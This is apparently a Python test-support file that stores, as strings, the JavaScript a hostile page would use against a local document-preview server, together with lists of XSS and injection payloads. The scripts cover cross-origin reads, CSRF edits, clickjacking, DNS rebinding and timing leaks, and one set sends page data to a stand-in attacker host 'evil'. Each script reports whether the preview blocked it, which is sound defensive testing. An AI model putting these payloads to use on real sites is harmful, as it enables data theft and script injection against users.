"""What a hostile page tries in the browser in which the preview is open: scripts, as data.

Each is the body of an asynchronous function; ``target`` is the preview's address and ``evil`` that
of the attacker. It returns ``blocked``, or ``sent`` where a page is not told what became of it, or
what it got. Rows of docs/reliability.md, as those of :mod:`support.attacks`.
"""

import json
from dataclasses import dataclass

from support.attacks import EDIT

BODY = json.dumps(json.dumps(EDIT))


@dataclass(frozen=True, slots=True)
class Script:
    """An attack by a page.

    Attributes:
        id: of the test.
        tried: in the words of who has to judge whether it matters.
        ways: the scripts.
    """

    id: str
    tried: str
    ways: tuple[str, ...]


def fetched(path: str, options: str = "{}") -> str:
    """Ask for a path, and tell what can be read."""
    return (
        f"return fetch(target + '{path}', {options})"
        ".then((got) => got.text()).then((text) => 'read ' + text, () => 'blocked')"
    )


def loaded(tag: str, attributes: str) -> str:
    """Have an element load something, and tell whether that came."""
    return (
        f"const one = Object.assign(document.createElement('{tag}'), {attributes});"
        "return new Promise((done) => {"
        " for (const name of ['onload', 'onloadeddata']) one[name] = () => done('loaded');"
        " one.onerror = () => done('blocked'); document.body.append(one) })"
    )


def framed(tag: str, attribute: str) -> str:
    """Put the preview into the page; the test looks whether it is there."""
    return (
        f"const one = document.createElement('{tag}'); one.{attribute} = target + '/';"
        "document.body.append(one);"
        "await new Promise((done) => { one.onload = one.onerror = done; setTimeout(done, 500) });"
        "try { const text = one.contentDocument.body.textContent;"
        " return text ? 'read ' + text : 'blocked' } catch { return 'blocked' }"
    )


def tried(code: str, late: str = "") -> str:
    """Run something that throws, or fails later, where it is not let through."""
    return f"try {{ {code} }} catch {{ return 'blocked' }} {late}"


FROM_ELSEWHERE = (
    Script(
        "read",
        "Reads the texts, the page with its token, a picture or the document",
        (
            *(fetched(one) for one in ("/", "/state", "/pages/1.png", "/document.pdf")),
            fetched("/state", "{mode: 'no-cors'}"),
            fetched("/state", "{credentials: 'include', cache: 'force-cache'}"),
            """const asked = new XMLHttpRequest();
               asked.open('GET', target + '/state');
               return new Promise((done) => {
                 asked.onload = () => done('read ' + asked.responseText);
                 asked.onerror = () => done('blocked');
                 asked.send() })""",
        ),
    ),
    Script(
        "change",
        "Changes a text: as a form, a beacon, plain text, JSON, with a guessed token",
        (
            fetched("/text", f"{{method: 'POST', mode: 'no-cors', body: {BODY}}}"),
            fetched(
                "/text",
                "{method: 'POST', headers: {'Content-Type': 'application/json',"
                f" 'X-Briefs-Token': 'guess'}}, body: {BODY}}}",
            ),
            fetched("/text", f"{{method: 'POST', mode: 'no-cors', keepalive: true, body: {BODY}}}"),
            *(fetched("/text", f"{{method: '{one}', body: {BODY}}}") for one in ("PUT", "PATCH")),
            f"navigator.sendBeacon(target + '/text', new Blob([{BODY}])); return 'sent'",
            f"""const form = Object.assign(document.createElement('form'), {{
                 method: 'POST', target: 'hole',
                 action: target + '/text', enctype: 'text/plain' }});
               const hole = Object.assign(document.createElement('iframe'), {{ name: 'hole' }});
               form.append(Object.assign(document.createElement('input'), {{ name: {BODY} }}));
               document.body.append(hole, form);
               const ended = new Promise((done) => {{ hole.onload = done; setTimeout(done, 500) }});
               form.submit();
               await ended;
               return 'sent'""",
        ),
    ),
    Script(
        "pictures",
        "Shows a page of the brief as a picture, or measures it",
        (
            loaded("img", "{src: target + '/pages/1.png'}"),
            loaded("video", "{src: target + '/document.pdf'}"),
            loaded("link", "{rel: 'preload', as: 'image', href: target + '/pages/1.png'}"),
        ),
    ),
    Script(
        "scripts",
        "Runs the preview's data or code as its own script, style, font or worker",
        (
            *(
                loaded("script", f"{{src: target + '{one}'}}")
                for one in ("/state", "/static/preview.js")
            ),
            loaded("script", "{type: 'module', src: target + '/static/preview.js'}"),
            "return import(target + '/static/preview.js').then(() => 'loaded', () => 'blocked')",
            loaded("link", "{rel: 'stylesheet', href: target + '/static/preview.css'}"),
            loaded("link", "{rel: 'stylesheet', href: target + '/state'}"),
            """const font = new FontFace('a', `url(${target}/font.ttf)`);
               return font.load().then(() => 'loaded', () => 'blocked')""",
            tried(
                "const one = new Worker(target + '/static/preview.js');",
                "return new Promise((done) => { one.onerror = () => done('blocked') })",
            ),
            tried(
                "await navigator.serviceWorker.register(target + '/static/preview.js')",
                "return 'loaded'",
            ),
        ),
    ),
    Script(
        "frames",
        "Shows the preview in a frame, to have it clicked on (clickjacking)",
        (framed("iframe", "src"), framed("object", "data"), framed("embed", "src")),
    ),
    Script(
        "window",
        "Opens the preview in a window, to reach into it or to learn what it shows",
        (
            """const other = window.open(target + '/', 'name-to-read');
               if (!other) return 'no window';
               await new Promise((done) => setTimeout(done, 200));
               try { return 'read ' + other.document.body.textContent }
               catch { return 'blocked' }""",
        ),
    ),
    Script(
        "streams",
        "Listens to the preview's news, by a stream of events or a WebSocket",
        (
            """const one = new EventSource(target + '/news?since=-1');
               return new Promise((done) => {
                 one.onmessage = one.onopen = () => done('read');
                 one.onerror = () => done('blocked') })""",
            tried(
                "const one = new WebSocket(target.replace('http', 'ws') + '/news');"
                "return await new Promise((done) => { one.onopen = () => done('read');"
                " one.onerror = () => done('blocked') })"
            ),
        ),
    ),
    Script(
        "early",
        "Has the browser fetch or draw the preview ahead of time (prefetch, prerender)",
        tuple(
            f"""const one = Object.assign(document.createElement('link'), {{
                 rel: '{rel}', href: target + '/' }});
               return new Promise((done) => {{
                 one.onload = () => done('loaded');
                 one.onerror = () => done('blocked');
                 setTimeout(() => done('sent'), 100);
                 document.head.append(one) }})"""
            for rel in ("prefetch", "prerender")
        ),
    ),
    Script(
        "sizes",
        "Learns sizes, statuses or protocols of answers from the browser's timings",
        (
            """await fetch(target + '/state', { mode: 'no-cors' }).catch(() => 0);
               const told = performance.getEntriesByType('resource')
                 .filter((one) => one.name.startsWith(target))
                 .filter((one) => one.encodedBodySize || one.transferSize || one.nextHopProtocol
                   || one.responseStatus);
               return told.length ? 'read ' + JSON.stringify(told) : 'blocked'""",
        ),
    ),
)

AS_THE_PREVIEW = (
    Script(
        "rebound",
        "A page under the attacker's name, which then points to the preview (DNS rebinding)",
        (
            *(fetched(one) for one in ("/", "/state", "/pages/1.png", "/nothing")),
            fetched("/text", f"{{method: 'POST', body: {BODY}}}"),
            fetched(
                "/choice", "{method: 'POST', body: '{}', headers: {'X-Briefs-Token': 'guess'}}"
            ),
        ),
    ),
)


def within(code: str) -> str:
    """Run something in the preview's own page, and tell whether script came of it."""
    waited = "await new Promise((done) => setTimeout(done, 50));"
    return tried(code, f"{waited} return window.hacked ? 'ran' : 'blocked'")


def element(tag: str, properties: str) -> str:
    """Put an element into the page."""
    return (
        f"const one = Object.assign(document.createElement('{tag}'), {properties});"
        " document.body.append(one);"
    )


WITHIN = (
    Script(
        "injected",
        "Script that somehow came into the preview's own page, as markup or as text to be run",
        tuple(
            map(
                within,
                (
                    element("script", "{textContent: 'window.hacked = 1'}"),
                    element("script", "{src: evil + '/evil.js'}"),
                    element("script", "{src: 'data:text/javascript,window.hacked=1'}"),
                    element("button", "{}")
                    + "one.setAttribute('onclick', 'hacked = 1'); one.click()",
                    element("a", "{href: 'javascript:void(window.hacked=1)'}") + "one.click()",
                    element("iframe", "{src: 'javascript:void(parent.hacked=1)'}"),
                    element("iframe", "{srcdoc: '<script>parent.hacked=1</script>'}"),
                    "document.body.lastChild.innerHTML = '<img src=x onerror=hacked=1>'",
                    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hacked=1>')",
                    """await new Promise((done, fail) => setTimeout(() => {
                         try { eval('window.hacked = 1'); done() }
                         catch (fault) { fail(fault) } }))""",
                    "setTimeout('window.hacked = 1')",
                    "await import('data:text/javascript,window.hacked=1')",
                    """const one = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
                       one.onmessage = () => { window.hacked = 1 }""",
                    "await navigator.serviceWorker.register('/static/preview.js'); hacked = 1",
                ),
            )
        ),
    ),
    Script(
        "sent-away",
        "The same, carrying texts or the token off to another site",
        tuple(
            map(
                within,
                (
                    "await fetch(evil + '/?' + document.title)",
                    "await fetch(evil + '/', {method: 'POST', mode: 'no-cors', body: 'x'})",
                    "navigator.sendBeacon(evil + '/', 'x')",
                    element("img", "{src: evil + '/?img'}"),
                    element("p", "{textContent: 'x'}")
                    + "one.style.backgroundImage = `url(${evil}/?css)`",
                    element("iframe", "{src: evil + '/?frame'}"),
                    element("link", "{rel: 'stylesheet', href: evil + '/?link'}"),
                    element("link", "{rel: 'prefetch', href: evil + '/?prefetch'}"),
                    element("form", "{action: evil + '/?form', method: 'POST'}") + "one.submit()",
                    element("video", "{src: evil + '/?video'}"),
                    "new EventSource(evil + '/?events')",
                    "new WebSocket(evil.replace('http', 'ws') + '/?socket')",
                    "await new FontFace('a', `url(${evil}/?font)`).load()",
                ),
            )
        ),
    ),
)

FOLDER = "<img src=x onerror=hacked=true>&line=9#{line}?$&'"
"""A name for the project's folder."""

TEXTS = (
    "<img src=x onerror=hacked=true><script>hacked=true</script>",
    "</script><script>hacked=true</script>",
    "</title></textarea></style><script>hacked=true</script>",
    "<style>*:after(content:url(//evil.example/?css))</style>",
    "javascript:hacked=true",
    "&lt;script&gt;hacked=true&lt;/script&gt;&amp;lt;",
)
"""What a text may hold, and what must be shown as it is."""

WRONG_TEXTS = (
    "\"'><svg onload=hacked=true>",
    "{{7*7}}${hacked=true}<%=7*7%>",
    "[a link](javascript:hacked=true)",
    '[a link](https://evil.example/"onmouseover=hacked=true)',
    "{<img src=x onerror=hacked=true>}",
    "[@<script>hacked=true</script>]",
)
"""What it may not hold, and what problems therefore quote."""

WRONG_FILES = {
    "<svg onload=hacked=true>": "'<svg onload=hacked=true>': x\n",
    "<img src=x onerror=hacked=true>": "title: &<img src=x onerror=hacked=true> !<img> x\n",
    "right-to-left override": 'title: "\\u202egnp.exe"\n',
}
"""Files that cannot be read, and what the problem says of each."""
